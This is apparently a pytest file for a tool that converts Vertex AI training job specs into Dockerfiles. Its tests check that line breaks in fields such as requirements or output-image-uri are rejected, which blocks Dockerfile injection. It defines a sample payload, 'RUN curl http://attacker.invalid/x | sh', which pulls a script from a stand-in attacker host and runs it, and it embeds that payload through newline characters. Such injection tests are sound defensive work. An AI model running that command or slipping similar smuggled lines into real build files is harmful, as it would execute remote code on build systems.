"""No value of an autopackaged pool adds a line to the Dockerfile ``convert`` prints: a line
break (or another control character) in ``requirements=``, ``extra-packages=``,
``output-image-uri=``... is refused naming the key, whichever way the job was written."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
import yaml

from components.cli._cli import main
from components.rules._spec import AUTOPACKAGE_ENV

TF_GPU = "us-docker.pkg.dev/vertex-ai/training/tf-gpu.2-17.py310:latest"
INJECTED = "RUN curl http://attacker.invalid/x | sh"


def _convert(path: Path) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = main(["convert", str(path)], out=out, err=err)
    return code, out.getvalue(), err.getvalue()


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("requirements", f"numpy\\n{INJECTED}"),
        ("extra-packages", f"dep/a.whl\\n{INJECTED}"),
        ("output-image-uri", f"gcr.io/p/t:1\\n{INJECTED}"),
        ("requirements", f"numpy\\r{INJECTED}"),
    ],
)
def test_a_line_break_in_a_gcloud_pool_value_is_refused_naming_the_key(
    tmp_path: Path, key: str, value: str
) -> None:
    (tmp_path / "trainer").mkdir()
    (tmp_path / "trainer" / "task.py").write_text("print(1)\n")
    script = tmp_path / "submit.sh"
    script.write_text(
        "gcloud ai custom-jobs create --region=us-central1 --display-name=ap "
        f"--worker-pool-spec=$'machine-type=n1-standard-4,executor-image-uri={TF_GPU},"
        f"local-package-path=.,python-module=trainer.task,{key}={value}'\n"
    )
    code, out, err = _convert(script)
    assert code != 0
    assert f"{key}: " in err and "line break" in err
    assert INJECTED not in out and f"\n#   {INJECTED}" not in err
    assert "Traceback" not in err


def test_a_line_break_in_a_job_files_build_is_refused_naming_the_key(tmp_path: Path) -> None:
    build = {
        "copy": ["trainer"],
        "entry": "module",
        "target": "trainer.task",
        "requirements": [f"numpy\n{INJECTED}"],
    }
    job = {
        "displayName": "ap",
        "jobSpec": {
            "workerPoolSpecs": [
                {
                    "machineSpec": {"machineType": "n1-standard-4"},
                    "replicaCount": 1,
                    "pythonPackageSpec": {
                        "executorImageUri": TF_GPU,
                        "packageUris": ["gs://bkt/trainer.tar.gz"],
                        "pythonModule": "trainer.task",
                        "env": [{"name": AUTOPACKAGE_ENV, "value": json.dumps(build)}],
                    },
                }
            ]
        },
    }
    path = tmp_path / "job.yaml"
    path.write_text(yaml.safe_dump(job))
    code, out, err = _convert(path)
    assert code != 0, err
    assert INJECTED not in out
    assert "requirements: " in err and "line break" in err
    assert f"\n#   {INJECTED}" not in err and "Traceback" not in err
